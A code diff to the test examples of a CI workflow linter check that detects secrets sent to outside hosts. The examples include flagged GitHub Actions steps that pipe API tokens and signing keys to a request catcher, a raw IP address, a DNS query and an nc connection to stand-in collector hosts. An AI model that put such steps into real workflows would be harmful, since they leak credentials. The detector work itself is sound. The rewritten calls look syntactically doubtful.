@@ -54,9 +54,8 @@ export default defineCheck({
   },
   examples: () => [
     ...examplesFinding(['collector', 'collector', 'channel', 'channel'], {
-      'to a request catcher, an address, a name server and a raw connection': jobOn(
-        'push',
-        `- run: curl -d "t=\${{ secrets.API_TOKEN }}" https://abc123.webhook.site/
+      'to a request catcher, an address, a name server and a raw connection': jobOn('push')`
+- run: curl -d "t=\${{ secrets.API_TOKEN }}" https://abc123.webhook.site/
 - run: echo "$KEY" | base64 | curl --data @- https://203.0.113.9/x
   env: { KEY: "\${{ secrets.SIGNING_KEY }}" }
 - run: dig "\${{ secrets.API_TOKEN }}.collect.example"
@@ -64,32 +63,23 @@ export default defineCheck({
     VALUE="$KEY"
     echo "$VALUE" | nc collect.example 443
   env: { KEY: "\${{ secrets['SIGNING_KEY'] }}" }`,
-      ),
     }),
     ...examplesFinding(['plaintext', 'foreign', 'foreign'], {
-      'unencrypted, and to a host that has nothing to do with it': jobOn(
-        'push',
-        `- run: |
+      'unencrypted, and to a host that has nothing to do with it': jobOn('push')`- run: |
     curl -H "Authorization: Bearer \${{ secrets.ACME_TOKEN }}" \\
       http://api.acme.example/deploy
 - run: wget --header "X-Key:$KEY" "https://stats.example.com/collect"
   env: { KEY: "\${{ secrets.SIGNING_KEY }}" }
 - run: curl -u "x:\${{ github.token }}" https://api.acme-mirror.example`,
-      ),
     }),
     ...examplesFinding(['foreign'], {
-      'to a second host that only begins like the first': jobOn(
-        'push',
-        `- run: |
+      'to a second host that only begins like the first': jobOn('push')`- run: |
     curl https://hub.vendor.example https://vendor.example.collect.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
     curl https://hub.vendor.example https://api.vendor.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
     curl https://s3.vendor.example https://s3.vendor.example.cn -H "X-Auth: \${{ secrets.VENDOR_KEY }}"`,
-      ),
     }),
     ...soundExamples({
-      'to the service it is for, to the own host, to a host that is a secret, and locally': jobOn(
-        'push',
-        `- run: |
+      'to the service it is for, to the own host, to a host that is a secret, and locally': jobOn('push')`- run: |
     curl -H "Authorization: Bearer \${{ secrets.VENDOR_TOKEN }}" https://api.vendor.example/v1
     curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user
     curl -d text=done "$HOOK"
@@ -105,7 +95,6 @@ export default defineCheck({
 - if: env.HAS == 'true'
   run: curl -d "has=$HAS" https://status.example
   env: { HAS: "\${{ secrets.API_TOKEN != '' }}" }`,
-      ),
     }),
   ],
 });
